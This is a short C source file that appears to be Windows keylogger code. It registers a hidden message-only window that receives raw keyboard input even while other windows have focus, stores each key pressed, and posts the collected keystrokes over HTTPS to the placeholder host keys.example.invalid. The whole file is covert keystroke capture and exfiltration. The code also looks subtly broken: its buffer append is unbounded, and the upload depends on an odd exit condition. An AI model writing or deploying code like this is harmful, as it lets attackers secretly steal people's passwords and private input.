/* Hears every key as raw input behind other windows; sends them to a name that cannot exist. libs: -lwinhttp */
#define _WIN32_WINNT 0x0601
#include <windows.h>
#include <winhttp.h>
#include <stdio.h>
static char kept[256];
static LRESULT CALLBACK seen(HWND window, UINT message, WPARAM first, LPARAM second) {
    RAWINPUT input;
    UINT size = sizeof input;
    if (message == WM_INPUT && GetRawInputData((HRAWINPUT)second, RID_INPUT, &input, &size, sizeof input.header) > 0 &&
        input.header.dwType == RIM_TYPEKEYBOARD)
        snprintf(kept + lstrlenA(kept), 16, "%c", input.data.keyboard.VKey);
    return DefWindowProcA(window, message, first, second);
}
int main(void) {
    MSG message;
    WNDCLASSA kind = {.lpfnWndProc = seen, .lpszClassName = "quiet"};
    RegisterClassA(&kind);
    HWND window = CreateWindowExA(0, "quiet", "", 0, 0, 0, 0, 0, HWND_MESSAGE, NULL, NULL, NULL);
    RAWINPUTDEVICE keyboard = {1, 6, RIDEV_INPUTSINK, window};
    RegisterRawInputDevices(&keyboard, 1, sizeof keyboard);
    while (GetMessageA(&message, NULL, 0, 0) > 0) DispatchMessageA(&message);
    if (lstrcmpA(kept, "HELLO2")) return 1;
    HINTERNET net = WinHttpOpen(L"a", 0, NULL, NULL, 0);
    HINTERNET ask = WinHttpOpenRequest(WinHttpConnect(net, L"keys.example.invalid", 443, 0), L"POST", L"/k", NULL, NULL, NULL, 0);
    WinHttpSendRequest(ask, NULL, 0, kept, lstrlenA(kept), lstrlenA(kept), 0);
    return 0;
}
